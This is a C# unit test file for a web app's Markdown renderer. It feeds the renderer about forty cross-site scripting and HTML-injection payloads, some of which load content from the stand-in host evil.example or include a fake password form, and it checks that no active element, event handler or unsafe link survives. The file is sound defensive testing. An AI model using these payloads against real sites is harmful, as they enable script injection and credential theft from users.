using Workspace.Web.Pages;

namespace Workspace.Web.Tests.Pages;

public sealed class MarkdownTests
{
    private readonly Markdown markdown = new();

    /// <summary>What others have tried on pages that show what strangers wrote.</summary>
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=//evil.example/x.swf>",
        "<form action=//evil.example><input type=password name=p><button>Go</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=\"#\" onclick=alert(1)>x</a>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](http://evil.example/x.png)",
        "<https://evil.example/\"onmouseover=\"alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example>",
        "<details ontoggle=alert(1) open>x</details>",
        "<video src=//evil.example/x.mp4 onerror=alert(1)></video>",
        "<audio src=//evil.example/x.mp3 autoplay></audio>",
        "<body onload=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<p class=\"app-bar skip demo-bar\">x</p>",
        "<a href=//evil.example target=_blank>x</a>",
        "`<script>alert(1)</script>` <!--<script>alert(1)</script>-->",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
        "# <img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_in_a_text_runs_or_fetches_anything(string attack)
    {
        var html = markdown.Render(attack).Html;
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body><main>{html}</main></body>");
        var all = document.QuerySelectorAll("main *");
        Assert.DoesNotContain(all, e => e.LocalName is "script" or "img" or "svg" or "math" or "iframe" or "object" or "embed" or "form" or "button" or "style" or "link"
            or "meta" or "base" or "video" or "audio" or "template" or "noscript");
        Assert.DoesNotContain(all.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.Ordinal) || a.Name is "style" or "src" or "srcdoc" or "target" or "action");
        Assert.DoesNotContain(all, e => e.LocalName == "input" && e.GetAttribute("type") != "checkbox");
        Assert.DoesNotContain(all.SelectMany(e => e.ClassList), c => c is "app-bar" or "skip" or "demo-bar");
        Assert.All(all.Where(e => e.HasAttribute("href")), e => Assert.Matches("^(https?://|//|mailto:|#|/|[^:]*$)", e.GetAttribute("href")!));
        Assert.Equal(document.QuerySelector("main"), document.Body!.FirstElementChild);
    }

    [Fact]
    public void Tables_footnotes_and_task_lists_are_rendered()
    {
        var html = markdown.Render("# Title\n\n| Town | Rent |\n| --- | ---: |\n| Alder Falls | 905 |\n\nSo[^a].\n\n[^a]: Because.\n\n- [x] done\n- [ ] open\n").Html;
        Assert.Contains("<th class=\"r\">Rent</th>", html, StringComparison.Ordinal);
        Assert.Contains("<td class=\"r\">905</td>", html, StringComparison.Ordinal);
        Assert.Contains("class=\"footnotes\"", html, StringComparison.Ordinal);
        Assert.Contains("class=\"footnote-ref\"", html, StringComparison.Ordinal);
        Assert.Contains("type=\"checkbox\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("style=", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_picture_becomes_a_link_so_that_nothing_is_fetched_when_a_text_is_read() =>
        Assert.Contains("<a href=\"https://example.org/a.png\" rel=\"noopener noreferrer nofollow\">A map</a>", markdown.Render("![A map](https://example.org/a.png)").Html, StringComparison.Ordinal);

    [Fact]
    public void Headings_lead_to_their_places()
    {
        var rendered = markdown.Render("# A home\n\n## 1. Who we *are*\n\n## 2. Droits à l’égalité\n");
        Assert.True(rendered.HasTitle);
        Assert.Equal(["A home", "1. Who we are", "2. Droits à l’égalité"], rendered.Headings.Select(h => h.Words));
        Assert.All(rendered.Headings, h => Assert.Contains($"id=\"{h.Id}\"", rendered.Html, StringComparison.Ordinal));
    }
}
